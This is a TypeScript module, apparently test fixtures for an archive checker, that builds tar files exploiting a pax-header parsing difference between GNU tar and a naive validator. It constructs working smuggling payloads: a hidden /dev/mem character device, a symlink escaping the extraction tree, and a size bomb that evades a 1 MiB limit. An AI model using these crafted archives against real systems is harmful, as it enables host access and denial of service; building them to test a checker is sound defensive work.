/**
 * The archives of issue 15 (part 4): GNU tar accepts more than one blank between a pax
 * record's length and its keyword (`NN  size=0`); a checker that splits at the first blank
 * reads the keyword as " size" and ignores it. From there the two disagree about where the
 * next header starts, and what one of them skips as data the other unpacks as members.
 */
import { BLOCK, archive, header, member, pax, paxRecord } from './tar-writer.js';

const TREE = [member({ name: './', type: '5' }), member({ name: './etc/', type: '5' }), member({ name: './dev/', type: '5' })];

/** `size=0` behind two blanks, on a member whose header size covers `hidden`: GNU tar reads `hidden` as members. */
function smuggle(hidden: Buffer): Buffer {
  return archive(...TREE, pax(paxRecord('size', '0', '  ')), header({ name: './etc/motd', size: hidden.length }), hidden, member({ name: './etc/hostname' }, 'tenant\n'));
}

/** A character device 1:1 (/dev/mem) that GNU tar unpacks and the naive checker skips as file data. */
export const SMUGGLED_DEVICE = smuggle(header({ name: './dev/mem', type: '3', devmajor: 1, devminor: 1, mode: 0o640 }));

/** A symlink climbing out of the tree, hidden the same way. */
export const SMUGGLED_SYMLINK = smuggle(header({ name: './etc/up', type: '2', link: '../../../../../..' }));

/** A pax record of exactly `bytes` bytes: `comment=xxx...`. */
function filler(bytes: number): string {
  let n = bytes;
  while (paxRecord('comment', 'x'.repeat(n)).length > bytes) n--;
  const r = paxRecord('comment', 'x'.repeat(n));
  if (r.length !== bytes) throw new Error(`no comment record of ${bytes} bytes`);
  return r;
}

export const BOMB_SIZE = 4 * 1024 * 1024;

/**
 * A 4 MiB member behind `NN  size=4194304` with a header size of 0: to the naive checker its
 * data reads as four global pax headers of about 1 MiB (comments, which unpack to nothing), so
 * it passes `--max-size 1M`; GNU tar unpacks a 4 MiB file.
 */
export const SIZE_BOMB = ((): Buffer => {
  const part = BOMB_SIZE / 4;
  const g = pax(filler(part - BLOCK), 'g', 'GlobalHead');
  if (g.length !== part) throw new Error('filler does not fill');
  return archive(...TREE, pax(paxRecord('size', String(BOMB_SIZE), '  ')), header({ name: './big', size: 0 }), g, g, g, g, member({ name: './etc/hostname' }, 'tenant\n'));
})();
